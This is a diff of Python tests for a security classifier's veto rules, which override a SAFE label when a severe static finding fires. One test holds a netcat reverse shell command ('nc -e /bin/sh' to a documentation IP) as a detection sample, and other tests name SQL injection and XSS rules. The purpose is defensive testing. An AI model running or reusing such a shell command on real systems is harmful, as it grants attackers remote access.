@@ -263,15 +263,14 @@ def test_veto_rules_are_the_severe_rules_no_benign_training_input_trips() -> Non
     """VETO_RULES is derived from the data: high or critical, and matching no safe training input."""
     from fwyy_ollama.dataset.explain import FEATURES
     from fwyy_ollama.findings import VETO_RULES
-
-    severe = {f"{c}:{f.name}" for c, fs in FEATURES.items() for f in fs if f.label.severity >= Label.HIGH.severity}
     from fwyy_ollama.report import parse_report
 
+    severe = {f"{c}:{f.name}" for c, fs in FEATURES.items() for f in fs if f.label.severity >= Label.HIGH.severity}
     tripped: set[str] = set()
     for name in ("security.train.jsonl", "corpora.train.jsonl"):
         for record in load_records(data_dir() / name):
             if parse_report(record["output"]).label is Label.SAFE:
-                tripped |= {f"{f.category}:{f.name}" for f in static_findings(record["input"])}
+                tripped |= {f.rule for f in static_findings(record["input"])}
     assert VETO_RULES == severe - tripped
     assert {"sqli:union", "sqli:comment", "xss:remote_script"} <= tripped  # real benign SQL and pages
 
@@ -281,10 +280,10 @@ def test_a_veto_rule_overrules_only_a_safe_label() -> None:
 
     shell = veto_finding("nc -e /bin/sh 198.51.100.4 9001")
     assert shell is not None and shell.label.severity >= Label.HIGH.severity
-    assert vetoed(Label.SAFE, shell) is shell.label
+    assert vetoed(Label.SAFE, shell) == (shell.label, shell)
     for risky in (Label.LOW, Label.MEDIUM, Label.HIGH):
-        assert vetoed(risky, shell) is risky
-    assert vetoed(Label.SAFE, None) is Label.SAFE
+        assert vetoed(risky, shell) == (risky, None)
+    assert vetoed(Label.SAFE, None) == (Label.SAFE, None)
     # Severe rules that benign inputs trip (a UNION query, an escaped script shown in a page) and
     # lower rules are no veto.
     for text in (
